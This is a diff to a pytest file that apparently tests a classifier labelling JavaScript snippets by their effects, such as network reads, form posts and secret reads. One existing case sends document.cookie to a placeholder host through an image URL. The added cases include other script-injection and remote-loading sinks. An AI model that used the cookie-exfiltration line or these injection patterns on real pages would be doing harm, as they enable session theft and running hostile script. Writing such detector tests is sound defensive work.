@@ -14,7 +14,7 @@ def kinds(program: str) -> set[str]:
 @pytest.mark.parametrize(
     "program",
     [
-        "const [image, form, node, button, x] = JSON.parse(text); image.src = name; form.submit(); node.innerHTML = text; button.click(); x.setAttribute('href', y)",
+        "const [image, form, node, button, x] = JSON.parse(text); image.src = name; form.submit(); node.inner = text; button.click(); x.setAttribute('href', y)",
         "class Car { constructor() { this.src = 1; this.location = 2 } }; const c = new Car(); c.location = 3; c.click()",
         "function f(parent) { parent.location = 'here'; return parent.cookie }",
     ],
@@ -30,6 +30,15 @@ def test_without_a_page_these_are_names_like_others(program: str) -> None:
         ("await page.$eval('a', (a) => { a.innerHTML = text })", "opaque"),
         ("await page.evaluate(() => { const i = new Image(); i.src = 'https://x.example/?' + document.cookie })", "secret.read"),
         ("await page.evaluate(() => { new Image().src = 'https://x.example/' })", "http.get"),
+        ("class View extends React.Component { show() { this.ref.innerHTML = `<li>${this.props.item}</li>` } }", "opaque"),
+        ("class View { tell(data) { this.webview.contentWindow.postMessage(data, '*') } }", "opaque"),
+        ("new AudioContext().audioWorklet.addModule('https://x.example/a.js')", "opaque"),
+        ("document.body.setAttributeNS(null, 'onclick', 'alert(1)')", "opaque"),
+        ("const x = document.querySelector('image'); x.setAttributeNS(NS, 'xlink:href', 'https://x.example/')", "http.get"),
+        ("document.body.style.setProperty('background-image', 'url(https://x.example/)')", "http.get"),
+        ("document.styleSheets[0].insertRule('@import \"https://x.example/\"')", "http.get"),
+        ("window.frames[0].location = 'https://x.example/'", "opaque"),
+        ("frames[0].location.href = 'https://x.example/'", "opaque"),
         ("document.open(); document.forms[0].requestSubmit()", "http.post"),
     ],
 )
